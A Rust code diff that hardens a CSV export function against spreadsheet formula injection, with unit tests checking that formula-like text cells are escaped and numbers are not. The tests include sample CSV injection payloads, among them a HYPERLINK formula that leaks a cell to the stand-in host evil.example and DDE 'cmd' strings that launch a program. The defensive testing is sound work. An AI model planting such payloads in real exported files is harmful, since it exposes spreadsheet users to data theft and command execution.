@@ -81,9 +81,38 @@ pub fn html(store: &Store, config: &Config, registry: &Registry, filter: &Filter
     Ok(compare::shown(page.into_string()))
 }
 
-/// A CSV field, quoted where it must be.
+/// A CSV field, quoted where it must be (RFC 4180, and `;`, the separator of spreadsheets in
+/// many locales). A text cell that a spreadsheet would read as a formula (one starting with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return: a program name, a tool name or a reviewer
+/// name an operator typed) is neutralised the OWASP way: a `'` before it, and quoted. A
+/// number (`-12.5`) is no formula and stays a number.
 fn field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_owned() }
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_number(s) {
+        format!("\"'{}\"", s.replace('"', "\"\""))
+    } else if s.contains([',', ';', '"', '\n', '\r']) {
+        format!("\"{}\"", s.replace('"', "\"\""))
+    } else {
+        s.to_owned()
+    }
+}
+
+/// Whether `s` is a plain decimal number, as the report writes numbers: an optional `-`,
+/// digits with at most one point, an optional exponent (`-12.5`, `3`, `1e-7`).
+fn is_number(s: &str) -> bool {
+    let s = s.strip_prefix('-').unwrap_or(s);
+    let (mantissa, exponent) = match s.find(['e', 'E']) {
+        Some(i) => (&s[..i], Some(&s[i + 1..])),
+        None => (s, None),
+    };
+    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
+    let digits = |t: &str| t.bytes().all(|b| b.is_ascii_digit());
+    !(int.is_empty() && frac.is_empty())
+        && digits(int)
+        && digits(frac)
+        && exponent.is_none_or(|e| {
+            let e = e.strip_prefix(['-', '+']).unwrap_or(e);
+            !e.is_empty() && digits(e)
+        })
 }
 
 /// The change rows as CSV (RFC 4180), with each change's sentence and latest review mark.
@@ -126,5 +155,35 @@ mod tests {
         assert_eq!(super::field("a"), "a");
         assert_eq!(super::field("800 mm/min, 1200 mm/min"), "\"800 mm/min, 1200 mm/min\"");
         assert_eq!(super::field("say \"hi\""), "\"say \"\"hi\"\"\"");
+        assert_eq!(super::field("a;=1+1"), "\"a;=1+1\"", "a spreadsheet that splits on `;` keeps it one cell");
+    }
+
+    /// OWASP's CSV injection rule: a text cell starting with `=`, `+`, `-`, `@`, a tab or a
+    /// carriage return gets a `'` and quotes; numbers stay numbers.
+    #[test]
+    fn formulas_in_text_cells_are_neutralised_and_numbers_are_not() {
+        let cases = [
+            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""),
+            ("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""),
+            ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
+            ("\t=1+1", "\"'\t=1+1\""),
+            ("\r=1+1", "\"'\r=1+1\""),
+            ("-", "\"'-\""),
+            ("-12.5 mm", "\"'-12.5 mm\""),
+            ("-1e", "\"'-1e\""),
+            ("-.", "\"'-.\""),
+            ("-12.5", "-12.5"),
+            ("-3", "-3"),
+            ("-0.125", "-0.125"),
+            ("-.5", "-.5"),
+            ("-1e-7", "-1e-7"),
+            ("12.5", "12.5"),
+            ("Z-12.5", "Z-12.5"),
+            ("tool T1 renamed T8", "tool T1 renamed T8"),
+        ];
+        for (cell, want) in cases {
+            assert_eq!(super::field(cell), want, "{cell:?}");
+        }
     }
 }
